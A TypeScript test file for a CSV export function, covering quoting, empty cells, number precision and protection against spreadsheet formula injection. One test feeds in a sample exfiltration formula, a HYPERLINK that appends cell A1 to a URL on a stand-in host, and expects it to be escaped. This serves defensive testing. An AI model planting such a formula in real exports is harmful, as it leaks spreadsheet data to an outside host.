import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvText } from './csv-text.ts';

/** A reader of RFC 4180, written from its grammar. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let [row, cell, isQuoted]: [string[], string, boolean] = [[], '', false];
  for (let i = 0; i < text.length; i++) {
    if (isQuoted) {
      if (text[i] !== '"') cell += text[i];
      else if (text[i + 1] === '"') cell += text[++i];
      else isQuoted = false;
    } else if (text[i] === '"') isQuoted = true;
    else if (text[i] === ',') [row, cell] = [[...row, cell], ''];
    else if (text.startsWith('\r\n', i)) {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      i++;
    } else cell += text[i];
  }
  expect([row, cell, isQuoted]).toEqual([[], '', false]);
  return rows;
}

const texts = fc.oneof(
  fc.string(),
  fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', ' ', 'a', '=', '猫') }),
);

describe('csvText()', () => {
  it('gives back any text through a reader of the standard, formulas with an apostrophe', () => {
    const shown = (text: string) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);
    fc.assert(
      fc.property(fc.array(fc.array(texts, { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
        expect(readCsv(csvText(rows))).toEqual(rows.map((row) => row.map(shown)));
      }),
    );
  });

  it('has no text that a spreadsheet would compute, and leaves numbers as they are', () => {
    const [link, ...cells] = ['=HYPERLINK("http://x/?"&A1,"x")', '+1', '-blurry', '@x', '\t=1', 'a=1', -1.5];
    expect(csvText([[link]])).toBe('"\'=HYPERLINK(""http://x/?""&A1,""x"")"\r\n');
    expect(csvText([cells])).toBe("'+1,'-blurry,'@x,'\t=1,a=1,-1.5\r\n");
  });

  it('leaves a cell empty where nothing was measured', () => {
    expect(csvText([[null, undefined, Number.NaN, Number.POSITIVE_INFINITY, 0, false]])).toBe(
      ',,,,0,false\r\n',
    );
  });

  it('keeps every digit of a number', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        expect(Number(csvText([[value]]).trim())).toBe(value === 0 ? 0 : value);
      }),
    );
  });

  it('quotes only what needs it', () => {
    expect(csvText([['plain', 'a,b', 'say "x"', ' padded']])).toBe('plain,"a,b","say ""x"""," padded"\r\n');
  });
});
